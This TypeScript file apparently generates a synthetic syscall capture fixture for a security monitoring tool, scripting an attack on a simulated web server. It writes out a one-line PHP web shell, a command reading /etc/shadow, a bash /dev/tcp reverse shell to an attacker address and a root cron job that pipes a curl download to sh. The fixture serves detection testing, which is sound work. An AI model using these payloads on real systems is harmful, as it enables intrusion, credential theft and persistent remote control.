// The story of fixtures/demo.scap (see fixtures/README.md), built with the scenario builder. Deterministic:
// the same code always produces the same bytes, and a test checks the committed file against it.
import { O, Scenario } from './scenario.js';

/** 2024-05-14T09:30:00Z. */
const T0 = 1_715_679_000_000_000_000n;
const REDIS_ID = '3f1c2ab59e8d';

export function buildDemoCapture(): Buffer {
  const s = new Scenario({
    start: T0,
    machine: { hostname: 'web-01', numCpus: 2, memoryBytes: 4 * 1024 ** 3 },
    interfaces: [
      { kind: 'ipv4', name: 'lo', addr: '127.0.0.1', netmask: '255.0.0.0', broadcast: '127.0.0.1' },
      { kind: 'ipv4', name: 'eth0', addr: '10.0.1.15', netmask: '255.255.255.0', broadcast: '10.0.1.255', linkSpeed: 1000 },
      { kind: 'ipv4', name: 'docker0', addr: '172.17.0.1', netmask: '255.255.0.0', broadcast: '172.17.255.255' },
    ],
    users: [
      { uid: 0, gid: 0, name: 'root', home: '/root', shell: '/bin/bash' },
      { uid: 33, gid: 33, name: 'www-data', home: '/var/www', shell: '/usr/sbin/nologin' },
      { uid: 1000, gid: 1000, name: 'deploy', home: '/home/deploy', shell: '/bin/bash' },
    ],
    groups: [
      { gid: 0, name: 'root' },
      { gid: 33, name: 'www-data' },
      { gid: 1000, name: 'deploy' },
    ],
  });

  // Processes running when the capture starts.
  s.process({ pid: 1, ppid: 0, comm: 'systemd', exepath: '/usr/lib/systemd/systemd', args: ['--system'] });
  s.process({ pid: 812, ppid: 1, comm: 'sshd', exepath: '/usr/sbin/sshd', args: ['-D'], fds: [{ fd: 3, kind: 'listen', local: '0.0.0.0:22' }] });
  s.process({ pid: 1200, ppid: 1, comm: 'nginx', exepath: '/usr/sbin/nginx', args: ['-g', 'daemon on; master_process on;'], fds: [{ fd: 6, kind: 'listen', local: '0.0.0.0:80' }] });
  const nginx = s.process({
    pid: 1201,
    ppid: 1200,
    comm: 'nginx',
    exepath: '/usr/sbin/nginx',
    args: ['-g', 'daemon on; master_process on;'],
    uid: 33,
    cwd: '/',
    fds: [
      { fd: 6, kind: 'listen', local: '0.0.0.0:80' },
      { fd: 7, kind: 'file', path: '/var/log/nginx/access.log', flags: (O.WRONLY as number) | (O.APPEND as number) },
      { fd: 9, kind: 'unix', path: '/run/php/php8.2-fpm.sock' },
    ],
  });
  s.process({ pid: 1300, ppid: 1, comm: 'php-fpm8.2', exepath: '/usr/sbin/php-fpm8.2', exe: 'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)', cwd: '/', fds: [{ fd: 8, kind: 'unix', path: '/run/php/php8.2-fpm.sock' }] });
  const fpm = s.process({
    pid: 1301,
    ppid: 1300,
    comm: 'php-fpm8.2',
    exepath: '/usr/sbin/php-fpm8.2',
    exe: 'php-fpm: pool www',
    uid: 33,
    cwd: '/var/www/html',
    fds: [{ fd: 8, kind: 'unix', path: '/run/php/php8.2-fpm.sock' }],
  });
  const shim = s.process({ pid: 2100, ppid: 1, comm: 'containerd-shim', exepath: '/usr/bin/containerd-shim-runc-v2', args: ['-namespace', 'moby', '-id', REDIS_ID, '-address', '/run/containerd/containerd.sock'] });
  s.process({ pid: 2131, ppid: 2100, comm: 'redis-server', exepath: '/usr/local/bin/redis-server', args: ['*:6379'], uid: 999, container: REDIS_ID, fds: [{ fd: 6, kind: 'listen', local: '0.0.0.0:6379' }] });
  s.container({ id: REDIS_ID, name: 'redis-cache', image: 'redis:7.2', ip: '172.17.0.2' });

  // 1. An attacker uploads a PHP web shell through the upload form.
  let conn = nginx.accept(6, '203.0.113.45:51812', '10.0.1.15:80');
  nginx.read(conn, 'POST /upload.php HTTP/1.1\r\nHost: web-01\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n');
  nginx.write(9, 'FCGI upload.php');
  s.advance(200_000n);
  fpm.read(8, 'FCGI upload.php');
  const up = fpm.open('/var/www/html/uploads/img.php', (O.WRONLY as number) | (O.CREAT as number) | (O.TRUNC as number), { mode: 0o644 });
  fpm.write(up, '<?php system($_GET["c"]); ?>\n');
  fpm.close(up);
  nginx.write(7, '203.0.113.45 - - [14/May/2024:09:30:00 +0000] "POST /upload.php HTTP/1.1" 200 31\n');
  nginx.close(conn);
  s.advance(4_000_000_000n);

  // 2. The web shell runs commands: php-fpm spawns a shell that reads /etc/shadow.
  conn = nginx.accept(6, '203.0.113.45:51830', '10.0.1.15:80');
  nginx.read(conn, 'GET /uploads/img.php?c=id;cat%20/etc/shadow HTTP/1.1\r\nHost: web-01\r\n\r\n');
  nginx.write(9, 'FCGI uploads/img.php');
  fpm.read(8, 'FCGI uploads/img.php');
  const sh = fpm.clone();
  sh.execve('/bin/sh', ['sh', '-c', 'id;cat /etc/shadow']);
  const id = sh.clone();
  id.execve('/usr/bin/id', ['id']);
  const pw = id.open('/etc/passwd', O.RDONLY);
  id.read(pw, 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n');
  id.close(pw);
  id.write(1, 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n');
  id.exit(0);
  const cat = sh.clone();
  cat.execve('/usr/bin/cat', ['cat', '/etc/shadow']);
  const shadow = cat.open('/etc/shadow', O.RDONLY);
  cat.read(shadow, 'root:$y$j9T$Zq1pCHj2aG0...:19800:0:99999:7:::\ndeploy:$y$j9T$0B9k2...:19801:0:99999:7:::\n');
  cat.close(shadow);
  cat.write(1, 'root:$y$j9T$Zq1pCHj2aG0...:19800:0:99999:7:::\n');
  cat.exit(0);
  sh.exit(0);
  nginx.close(conn);
  s.advance(6_000_000_000n);

  // 3. A reverse shell to the attacker, which then plants a cron job under /etc.
  conn = nginx.accept(6, '203.0.113.45:51877', '10.0.1.15:80');
  nginx.read(conn, 'GET /uploads/img.php?c=bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/198.51.100.23/4444%200%3E%261%27 HTTP/1.1\r\n\r\n');
  fpm.read(8, 'FCGI uploads/img.php');
  const sh2 = fpm.clone();
  sh2.execve('/bin/sh', ['sh', '-c', "bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"]);
  const bash = sh2.clone();
  bash.execve('/usr/bin/bash', ['bash', '-i']);
  const sock = bash.socket(2, 1, 0);
  bash.connect(sock, '198.51.100.23:4444', '10.0.1.15:46212');
  bash.write(sock, 'www-data@web-01:/var/www/html/uploads$ ');
  bash.read(sock, 'echo "* * * * * root curl -s http://198.51.100.23/x.sh | sh" > /etc/cron.d/php-sessionclean\n');
  const cron = bash.open('/etc/cron.d/php-sessionclean', (O.WRONLY as number) | (O.CREAT as number) | (O.TRUNC as number), { mode: 0o644 });
  bash.write(cron, '* * * * * root curl -s http://198.51.100.23/x.sh | sh\n');
  bash.close(cron);
  s.advance(3_000_000_000n);

  // 4. An administrator opens an interactive shell in the redis container (docker exec -it … bash).
  const runc = shim.clone();
  runc.execve('/usr/bin/runc', ['runc', '--root', '/var/run/docker/runtime-runc/moby', 'exec', '--tty', REDIS_ID]);
  const init = runc.clone();
  init.container = REDIS_ID;
  init.cgroups = ['cpuset', 'cpu', 'memory', 'pids'].map((c) => `${c}=/docker/${REDIS_ID.padEnd(64, '0')}`);
  init.execve('/bin/bash', ['bash'], { tty: 34816, env: ['HOSTNAME=3f1c2ab59e8d', 'TERM=xterm', 'HOME=/root'] });
  const catConf = init.clone();
  catConf.execve('/usr/bin/cat', ['cat', '/etc/redis/redis.conf']);
  catConf.open('/etc/redis/redis.conf', O.RDONLY, { error: 2 });
  catConf.exit(1);
  init.exit(0);
  runc.exit(0);

  return s.toBuffer();
}
